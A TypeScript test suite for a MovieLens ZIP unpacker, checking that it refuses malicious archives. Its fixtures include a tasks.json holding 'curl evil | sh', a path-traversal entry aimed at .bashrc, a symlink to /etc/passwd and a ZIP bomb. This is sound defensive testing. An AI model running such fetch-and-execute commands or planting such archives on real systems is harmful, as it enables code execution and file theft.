import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { unpackMovieLens } from '../../../src/host/download/movieLensDownload';
import type { FixtureEntry } from './zipFixture';
import { syntheticMovieLensFiles, movieLensZip } from './movieLensFixture';
import { makeZipEntries } from './zipFixture';
import { removeFolder, repoRoot } from '../../worker/workerHarness';

const MEBIBYTE = 1024 * 1024;

/** The synthetic files as fixture entries under `top`, for archives that need to lie. */
function entriesUnder(top: string): FixtureEntry[] {
  return [...syntheticMovieLensFiles()].map(([name, content]) => ({ name: `${top}${name}`, content }));
}

describe('MovieLens unpack: layout and sizes', function () {
  const parents: string[] = [];
  const newParent = (): string => {
    const parent = mkdtempSync(path.join(tmpdir(), 'recommender-lab-unpack-'));
    parents.push(parent);
    return parent;
  };
  after(() => parents.forEach(removeFolder));

  it('unpacks into <parent>/ml-100k whatever the top folder is called (.vscode too), and only the files the loader reads', async () => {
    const expected = [...syntheticMovieLensFiles().keys()].sort();
    const extras = (top: string): Map<string, string> =>
      new Map([
        [`${top}tasks.json`, '{"tasks":[{"command":"curl evil | sh"}]}'],
        [`${top}settings.json`, '{}'],
        [`${top}allbut.pl`, '#!/usr/bin/perl'],
        [`${top}mku.sh`, '#!/bin/sh'],
      ]);
    for (const top of ['.vscode/', 'ml-100k/', '']) {
      const parent = newParent();
      const folder = await unpackMovieLens(movieLensZip(top, extras(top)), parent);
      assert.equal(folder, path.join(parent, 'ml-100k'), `top folder ${JSON.stringify(top)}`);
      assert.deepEqual(readdirSync(parent), ['ml-100k'], `top folder ${JSON.stringify(top)}`);
      assert.deepEqual(readdirSync(folder).sort(), expected, `top folder ${JSON.stringify(top)}`);
    }
    // GroupLens's own layout: a folder entry, then the files in it.
    const parent = newParent();
    await unpackMovieLens(makeZipEntries([{ name: 'ml-100k/' }, ...entriesUnder('ml-100k/')]), parent);
    assert.deepEqual(readdirSync(path.join(parent, 'ml-100k')).sort(), expected);
  });

  it('refuses any other layout with a clear message and leaves nothing behind', async () => {
    const layouts: [string, FixtureEntry[], RegExp][] = [
      [
        'nested folder',
        [...entriesUnder('ml-100k/'), { name: 'ml-100k/.vscode/tasks.json', content: '{}' }],
        /nested folder \("ml-100k\/\.vscode\/tasks\.json"\)/,
      ],
      ['nested data', entriesUnder('a/ml-100k/'), /nested folder/],
      [
        'second top folder',
        [...entriesUnder('ml-100k/'), { name: '.vscode/settings.json', content: '{}' }],
        /"ml-100k\/" and "\.vscode\/"/,
      ],
      ['files at the top and in a folder', [...entriesUnder('ml-100k/'), { name: 'README', content: 'x' }], /the top of the archive/],
      [
        'path traversal',
        [...entriesUnder('ml-100k/'), { name: 'ml-100k/../../.bashrc', content: 'x' }],
        /refused: unsafe entry name .*climbs out/,
      ],
      ['absolute path', [...entriesUnder('ml-100k/'), { name: '/tmp/u.data', content: 'x' }], /absolute path/],
      ['backslashes', [...entriesUnder(''), { name: '..\\u.data', content: 'x' }], /backslashes/],
      [
        'symbolic link',
        [
          ...entriesUnder('ml-100k/').filter((entry) => entry.name !== 'ml-100k/u.user'),
          { name: 'ml-100k/u.user', content: '/etc/passwd', mode: 0o120777 },
        ],
        /"ml-100k\/u\.user" is a symbolic link/,
      ],
      ['duplicate name', [...entriesUnder('ml-100k/'), { name: 'ml-100k/u.data', content: '1\t1\t1\t1\n' }], /"ml-100k\/u\.data" twice/],
      ['missing files', [{ name: 'ml-100k/u.data', content: '1\t1\t5\t0\n' }], /lacks u\.item, u\.user, u\.genre, u\.occupation/],
      ['no u.data', [{ name: 'ratings.csv', content: 'userId,movieId,rating,timestamp\n' }], /no u\.data/],
    ];
    for (const [label, entries, message] of layouts) {
      const parent = newParent();
      await assert.rejects(unpackMovieLens(makeZipEntries(entries), parent), message, label);
      assert.deepEqual(readdirSync(parent), [], `${label} left files behind`);
    }
  });

  it('refuses declared sizes over the caps before inflating anything', async () => {
    // The data is not valid deflate, so only a check made before inflating can give these messages.
    const garbage = Buffer.from('not deflate at all');
    const oneLarge = entriesUnder('ml-100k/').map((entry) =>
      entry.name === 'ml-100k/u.data' ? { ...entry, deflated: garbage, declaredSize: 9 * MEBIBYTE } : entry,
    );
    const manyLarge = entriesUnder('ml-100k/').map((entry) =>
      /\.(base|test)$/.test(entry.name) ? { ...entry, deflated: garbage, declaredSize: 7 * MEBIBYTE } : entry,
    );
    for (const [entries, message] of [
      [oneLarge, /u\.data in the archive declares 9\.0 MiB; the limit is 8\.0 MiB/],
      [manyLarge, /declare 98\.\d MiB in all; the limit is 32\.0 MiB/],
    ] as const) {
      const parent = newParent();
      await assert.rejects(unpackMovieLens(makeZipEntries(entries), parent), message);
      assert.deepEqual(readdirSync(parent), []);
    }
  });

  it('stops a ZIP bomb (2000 bytes declared, 512 MiB inside) early: little memory, nothing kept', function () {
    const parent = newParent();
    const output = execFileSync(process.execPath, ['--require', 'tsx/cjs', path.join(__dirname, 'zipBombChild.ts'), parent], {
      cwd: repoRoot,
      encoding: 'utf8',
    });
    const { archiveBytes, message, peakBefore, peakAfter } = JSON.parse(output) as Record<string, number | string>;
    assert.ok(Number(archiveBytes) < MEBIBYTE, `the bomb is ${archiveBytes} bytes`);
    assert.match(String(message), /"ml-100k\/u\.data" inflates past its declared 2000 bytes/);
    const growth = Number(peakAfter) - Number(peakBefore);
    assert.ok(growth < 64 * MEBIBYTE, `peak memory grew by ${(growth / MEBIBYTE).toFixed(0)} MiB while unpacking`);
    assert.deepEqual(readdirSync(parent), []);
  });

  it('never overwrites a folder, not even a dangling link named ml-100k', async () => {
    const parent = newParent();
    await unpackMovieLens(movieLensZip('ml-100k/'), parent);
    await assert.rejects(unpackMovieLens(movieLensZip('ml-100k/'), parent), /already exists/);
    assert.deepEqual(readdirSync(parent), ['ml-100k']);
    const linked = newParent();
    symlinkSync(path.join(linked, 'nowhere'), path.join(linked, 'ml-100k'));
    await assert.rejects(unpackMovieLens(movieLensZip(''), linked), /already exists/);
    assert.deepEqual(readdirSync(linked), ['ml-100k']);
  });

  it('refuses a file that is not a ZIP archive', async () => {
    const parent = newParent();
    await assert.rejects(unpackMovieLens(Buffer.from('<html>not found</html>'), parent), /not a ZIP archive/);
    assert.deepEqual(readdirSync(parent), []);
  });
});
